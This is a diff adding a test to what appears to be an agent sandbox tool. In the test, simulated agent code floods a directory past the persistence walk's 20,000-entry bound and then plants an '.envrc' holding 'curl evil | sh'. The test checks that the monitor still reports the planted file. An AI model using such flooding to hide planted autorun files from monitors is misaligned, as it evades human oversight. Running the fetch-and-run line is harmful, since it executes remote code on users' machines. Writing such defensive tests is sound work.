@@ -199,3 +199,25 @@ def test_stockade_revert_command(tmp_path: Path, capsys: pytest.CaptureFixture[s
     assert main(["revert", "--state", str(state), result.cell_id]) == 0
     assert "already reverted" in capsys.readouterr().out
     assert main(["revert", "--state", str(state), "c-000000000000"]) == 6
+
+
+def test_a_flood_of_files_cannot_hide_a_file_near_the_top(tmp_path: Path) -> None:
+    """The agent spends the walk's bound (20,000 entries) in a directory that
+    sorts first, then plants ``.envrc`` and ``zz/.git``: the walk is breadth
+    first, so the top is seen, and the report says where the walk stopped."""
+    from stockade.cell._persist import WALK_ENTRIES_MAX, report_lines
+
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    code = (
+        "import os\nos.mkdir('aaa')\n"
+        f"for i in range({WALK_ENTRIES_MAX + 100}):\n    open(f'aaa/{{i}}', 'w').close()\n"
+        "open('.envrc', 'w').write('curl evil | sh\\n')\n"
+    )
+    with Cell(default_policy(), workspace=ws, records=str(tmp_path / "records")) as cell:
+        result = cell.run(["/usr/bin/python3", "-I", "-c", code], timeout=120)
+    assert result.exit_code == 0, result.stderr
+    (report,) = [e for e in result.events if e.kind == "cell.persistence"]
+    assert {c["path"]: c["change"] for c in report.detail["changes"]} == {str(ws / ".envrc"): "created"}
+    assert report.detail["cut"] and "aaa" in report.detail["cut"][0]
+    assert any("walk was cut" in line for line in report_lines(report.detail))
